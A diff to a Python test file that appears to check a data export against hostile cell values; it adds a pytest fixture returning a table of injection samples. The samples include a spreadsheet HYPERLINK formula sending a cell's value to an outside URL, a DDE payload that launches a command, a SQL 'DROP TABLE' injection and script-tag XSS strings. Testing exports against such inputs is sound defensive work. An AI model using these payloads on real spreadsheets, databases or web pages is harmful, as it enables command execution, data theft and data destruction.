@@ -16,7 +16,7 @@ ROOT = Path(__file__).parents[2]
 HOSTILE = {
     ("timeline", "title", 0): '=HYPERLINK("https://example.org/?"&A1;"here")',
     ("timeline", "summary", 0): "@SUM(1+1)*cmd|' /C calc'!A0",
-    ("timeline", "title", 1): "Robert'); DROP TABLE \"timeline\";--",
+    ("timeline", "title", 1): 'Robert\'); DROP TABLE "timeline";--',
     ("timeline", "summary", 1): "<img src=x onerror=alert(1)><script>alert(2)</script>]]>",
     ("timeline", "note", 2): "'=1 begins with an apostrophe already",
     ("entities", "summary", 0): "+1, as they say, and \\n or \\u0000 or %0A",
@@ -35,6 +35,12 @@ def exported(tmp_path_factory):
         return kgdata.export(format, folder / exporting.FORMATS[format].target)
 
     return exported
+
+
+@pytest.fixture(scope="session")
+def hostile_texts() -> dict:
+    """What is in it: (table, field, number of the row) -> text."""
+    return HOSTILE
 
 
 @pytest.fixture
